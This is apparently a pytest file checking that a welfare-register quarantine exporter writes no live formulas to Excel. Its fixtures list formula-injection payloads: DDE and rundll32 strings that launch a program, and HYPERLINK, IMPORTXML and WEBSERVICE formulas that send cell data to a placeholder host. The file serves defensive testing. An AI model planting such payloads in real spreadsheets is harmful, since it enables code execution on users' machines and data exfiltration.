"""Formula injection: what senders write is no live formula in any workbook of ours."""

from __future__ import annotations

import re
import shutil
import subprocess
from itertools import product
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from doudi.graph.cells import meant
from doudi.loaders.identity import Keys
from doudi.loaders.quarantine_book import INFO, write_book
from doudi.loaders.refused import lines
from doudi.loaders.repairs import resubmit
from doudi.loaders.source import sources

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.loaders.conftest import Office

ROOT = Path(__file__).parents[2]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\0", "\n", "＝", "\t=", "\r=", "\0=", "'=", '"=', " =")
BODIES = (
    "1+1",
    "A1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1,"x")',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
    'WEBSERVICE("http://example.invalid")',
    "SUM(1,1)*cmd|'/C calc'!A0",
    "2+5+cmd|' /C calc'!'A1'",
    "王小明",
    "_x003D_1+1",
    "MSEXCEL|'\\..\\..\\x'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "ＳＵＭ（１）",
)
PAYLOADS = ["".join(pair) for pair in product(BEGINS, BODIES)][:200]
NUMBERS = ("539901198001010010", "0012", "-12.50", "+3", "1,200")
COLUMNS = ("household_id", "person_id", "name", "relation_to_head", "declared_income", "added_date")


@pytest.fixture
def book(office: Office) -> Path:
    """A book of 200 refused lines, every text in them a payload."""
    rows = [
        {"household_id": "D1", "person_id": text, "name": text, "relation_to_head": text,
         "declared_income": NUMBERS[n % len(NUMBERS)], "added_date": "2024-01-15"}
        for n, text in enumerate(PAYLOADS)
    ]  # fmt: skip  # one row a payload
    target = office.folder / "2026-04"
    target.mkdir()
    table = pa.table({name: [row[name] for row in rows] for name in COLUMNS})
    pq.write_table(table, target / "dibao_member_register.parquet")
    office.deliver({}, batch="2026-04")
    found = lines(office.home, Keys(office.home / "keys"))
    assert len(found) == len(PAYLOADS) == 200
    out = office.folder / "book.xlsx"
    write_book(out, found, sources(), "en")
    return out


def cells(book: Path) -> Iterator[Any]:
    for sheet in load_workbook(book).worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_no_cell_of_an_exported_book_is_a_formula(book: Path) -> None:
    every = list(cells(book))
    assert [cell for cell in every if cell.data_type == "f"] == []
    texts = [cell.value for cell in every if isinstance(cell.value, str)]
    assert len(texts) > 200 * 3
    begins = [text for text in texts if text[0] in "=+-@\t\r\n＝" and text not in NUMBERS]
    assert begins == []


def test_no_sheet_file_holds_a_formula(book: Path, tmp_path: Path) -> None:
    shutil.unpack_archive(book, tmp_path / "open", "zip")
    for sheet in (tmp_path / "open" / "xl" / "worksheets").glob("*.xml"):
        assert not re.search(rb"<f[ >]", sheet.read_bytes())
    assert not (tmp_path / "open" / "xl" / "externalLinks").exists()


def test_numbers_stay_numbers_to_the_last_digit(book: Path) -> None:
    opened: Any = load_workbook(book)
    (sheet,) = opened.worksheets
    at = [cell.value for cell in sheet[1]].index("declared_income")
    values = {row[at].value for row in sheet.iter_rows(min_row=2)}
    assert values == set(NUMBERS)
    place = [title.split()[1] for title in INFO].index("line")
    assert all(isinstance(row[place].value, int) for row in sheet.iter_rows(min_row=2))


def test_every_payload_can_be_read_back_as_it_came(book: Path) -> None:
    opened: Any = load_workbook(book)
    (sheet,) = opened.worksheets
    at = [cell.value for cell in sheet[1]].index("name")
    found = {meant(str(row[at].value)) for row in sheet.iter_rows(min_row=2)}
    assert found == set(PAYLOADS)


def test_payloads_that_nobody_touched_are_no_repairs(office: Office, book: Path) -> None:
    (file,) = resubmit(book, office.home).files
    assert (file.rows_in, file.unchanged, file.loaded) == (200, 200, 0)
    assert not (office.home / "quarantine" / "repairs.jsonl").exists()


def test_a_quote_that_a_spreadsheet_took_for_its_own_is_no_repair(
    office: Office, book: Path
) -> None:
    opened: Any = load_workbook(book)
    for row in opened.worksheets[0].iter_rows(min_row=2, min_col=len(INFO) + 1):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("'"):
                cell.value = cell.value[1:]
                cell.data_type = "s"
    opened.save(book)
    (file,) = resubmit(book, office.home).files
    assert file.loaded == 0
    lost = [text for text in PAYLOADS if text[0] == "'"]  # a quote of their own
    assert file.unchanged == len(PAYLOADS) - len(lost)


def test_a_spreadsheet_computes_nothing_from_a_book(book: Path, tmp_path: Path) -> None:
    office_suite = shutil.which("soffice") or shutil.which("libreoffice")
    if office_suite is None:
        pytest.skip("LibreOffice is not installed here")
    subprocess.run(
        [office_suite, "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML",
         "--outdir", str(tmp_path / "lo"), str(book)],
        check=True, timeout=120, capture_output=True,
    )  # fmt: skip  # one command
    every = list(cells(tmp_path / "lo" / book.name))
    assert [cell for cell in every if cell.data_type == "f"] == []
    texts = {cell.value for cell in every if isinstance(cell.value, str)}
    assert set(NUMBERS) <= texts


WRITES = re.compile(r"\bWorkbook\(|\.to_excel\(|\.to_csv\(|csv\.writer\(|DictWriter\(|write_csv\(")
ROOMS = ("graph", "loaders", "policy", "detectors", "ranking", "casework", "doudi")
"""``synth`` is not among them: it writes made-up deliveries, which a machine reads."""


@pytest.mark.checkout
def test_every_room_that_writes_workbooks_or_lists_is_tested_here() -> None:
    paths = [path for room in ROOMS for path in sorted((ROOT / room).glob("*.py"))]
    found = [p.relative_to(ROOT).as_posix() for p in paths if WRITES.search(p.read_text("utf-8"))]
    assert found == ["loaders/quarantine_book.py"]
